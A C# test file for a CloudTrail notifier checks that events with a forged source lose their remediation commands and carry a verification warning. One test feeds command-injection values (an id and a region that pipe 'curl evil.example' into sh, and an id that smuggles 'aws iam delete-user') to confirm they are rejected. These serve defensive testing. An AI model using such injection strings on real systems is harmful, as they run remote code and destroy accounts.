using System.Text;
using System.Text.Json.Nodes;
using CloudTrailNotifier.Describing.Tampering;
using CloudTrailNotifier.Notifications;
using CloudTrailNotifier.Rendering;
using CloudTrailNotifier.Tests.Support;

namespace CloudTrailNotifier.Tests.Rendering;

/// <summary>
/// An event that did not come from AWS (its envelope's source is not aws.*) lists none of its "What to do" commands,
/// whose every name the sender chose (deactivate this user's key, revoke that role's sessions): it says so and shows how
/// to ask CloudTrail whether it recorded the call, in the email and the chat card, in English and Japanese.
/// </summary>
public sealed class ForgedNextStepsTests
{
    private const string Id = "3f2504e0-4f89-41d3-9a0c-0305e82c3301";

    private static readonly TamperWatch Stack = TamperWatch.Parse(SampleStack.WatchList, SampleStack.Function, out _)!;

    private static readonly Notifier[] Notifiers =
    [
        new(RenderOptions.Default with { TamperWatch = Stack, ChatCards = true }),
        new(RenderOptions.Default with { Language = NotificationLanguage.Japanese, TamperWatch = Stack, ChatCards = true }),
    ];

    private static readonly string[] Notes = ["This event did not come from AWS, so the commands it would call for are left out", "このイベントは AWS から届いたものではないため、対応コマンドは載せていません"];

    private static JsonObject Sample(string name) =>
        JsonNode.Parse(File.ReadAllText(Path.Combine(TestPaths.EventsDirectory, name)))!.AsObject();

    private static byte[] Bytes(JsonObject envelope, string? source = null, string? id = null, string? region = null)
    {
        var copy = envelope.DeepClone().AsObject();
        if (source is not null)
        {
            copy["source"] = source;
        }

        if (id is not null)
        {
            copy["detail"]!["eventID"] = id;
        }

        if (region is not null)
        {
            copy["detail"]!["awsRegion"] = region;
        }

        return Encoding.UTF8.GetBytes(copy.ToJsonString());
    }

    private static string Description(Notification notification) =>
        JsonNode.Parse(notification.ChatCard!)!["content"]!["description"]!.GetValue<string>();

    [Theory]
    [InlineData("iam-create-access-key-other-user.json", "aws iam update-access-key")]
    [InlineData("cloudtrail-stop-logging.json", "aws cloudtrail start-logging")]
    [InlineData("iam-attach-user-policy-administrator.json", "aws iam detach-user-policy")]
    public void A_forged_event_lists_none_of_its_commands_and_says_how_to_look_it_up_in_both_languages(string sample, string command)
    {
        var envelope = Sample(sample);
        for (var language = 0; language < Notifiers.Length; language++)
        {
            var real = Notifiers[language].Notify(Bytes(envelope, id: Id));
            var forged = Notifiers[language].Notify(Bytes(envelope, "com.example.orders", Id));

            Assert.Contains(command, real.Message, StringComparison.Ordinal);
            Assert.Contains(command, Description(real), StringComparison.Ordinal);
            Assert.DoesNotContain(Notes[language], real.Message, StringComparison.Ordinal);
            foreach (var shown in new[] { forged.Message, Description(forged) })
            {
                Assert.DoesNotContain(command, shown, StringComparison.Ordinal);
                Assert.DoesNotContain("--status Inactive", shown, StringComparison.Ordinal);
                Assert.Contains(Notes[language], shown, StringComparison.Ordinal);
                Assert.Contains($"aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue={Id} --region ", shown, StringComparison.Ordinal);
            }
        }
    }

    [Fact]
    public void The_look_up_is_said_to_confirm_nothing_by_the_id_alone_in_the_email_and_chat_of_both_languages()
    {
        // A sender can copy the id of a real event (its own harmless call): the record found must be compared, not just found.
        string[] compare =
        [
            "Compare any record found with this notification's event name, caller and time: a sender can copy the id of a real event, so a match of the id alone proves nothing.",
            "記録が見つかったら、そのイベント名・呼び出し元・時刻をこの通知のものと照らし合わせてください。送信者は実在するイベントの ID を写せるため、ID が一致するだけでは何の証明にもなりません。",
        ];
        var envelope = Sample("iam-create-access-key-other-user.json");
        for (var language = 0; language < Notifiers.Length; language++)
        {
            var real = Notifiers[language].Notify(Bytes(envelope, id: Id));
            var forged = Notifiers[language].Notify(Bytes(envelope, "com.example.orders", Id));

            Assert.DoesNotContain(compare[language], real.Message, StringComparison.Ordinal);
            foreach (var shown in new[] { forged.Message, Description(forged) })
            {
                var note = shown.IndexOf(compare[language], StringComparison.Ordinal);
                Assert.True(note >= 0, shown);
                Assert.True(note < shown.IndexOf("lookup-events", StringComparison.Ordinal), "the warning comes before the command");
            }
        }
    }

    [Fact]
    public void No_sample_event_keeps_a_command_once_its_source_is_forged()
    {
        foreach (var path in Directory.GetFiles(TestPaths.EventsDirectory, "*.json"))
        {
            var envelope = Sample(Path.GetFileName(path));
            if (envelope["detail"] is null)
            {
                continue;
            }

            foreach (var notifier in Notifiers)
            {
                var forged = notifier.Notify(Bytes(envelope, "com.example.orders", Id));
                var commands = forged.Message.Split('\n').Where(l => l.StartsWith("    aws ", StringComparison.Ordinal)).ToList();

                Assert.All(commands, c => Assert.StartsWith("    aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue=" + Id, c, StringComparison.Ordinal));
                Assert.Single(commands);
                Assert.Single(Description(forged).Split('\n'), l => l.StartsWith("• ", StringComparison.Ordinal) && l.Contains(": `aws ", StringComparison.Ordinal));
            }
        }
    }

    [Theory]
    [InlineData("x'; curl evil.example | sh #", null)]
    [InlineData("a1c0e003-2222-4ccc-9ddd-example", null)]
    [InlineData(Id, "us-east-1; curl evil.example|sh")]
    [InlineData(Id + "\n    aws iam delete-user --user-name alice", null)]
    public void An_id_or_region_not_shaped_like_cloudtrails_gives_no_command_or_no_region(string id, string? region)
    {
        var envelope = Sample("iam-create-access-key-other-user.json");
        for (var language = 0; language < Notifiers.Length; language++)
        {
            var forged = Notifiers[language].Notify(Bytes(envelope, "com.example.orders", id, region));

            foreach (var shown in new[] { forged.Message, Description(forged) })
            {
                Assert.Contains(Notes[language], shown, StringComparison.Ordinal);
                Assert.DoesNotContain("curl", shown.Split('\n').Where(l => l.Contains("aws ", StringComparison.Ordinal)).FirstOrDefault() ?? string.Empty, StringComparison.Ordinal);
                Assert.DoesNotContain("\n    aws iam", shown, StringComparison.Ordinal);
                if (region is null)
                {
                    Assert.DoesNotContain("lookup-events", shown, StringComparison.Ordinal);
                    Assert.Contains(language == 0 ? "Its event id is not shaped like CloudTrail's (a UUID)" : "イベント ID が CloudTrail の形式 (UUID) ではありません", shown, StringComparison.Ordinal);
                }
                else
                {
                    var lookup = Assert.Single(shown.Split('\n'), l => l.Contains("lookup-events", StringComparison.Ordinal));
                    Assert.EndsWith($"AttributeKey=EventId,AttributeValue={Id}" + (shown == forged.Message ? string.Empty : "`"), lookup, StringComparison.Ordinal);
                }
            }
        }
    }
}
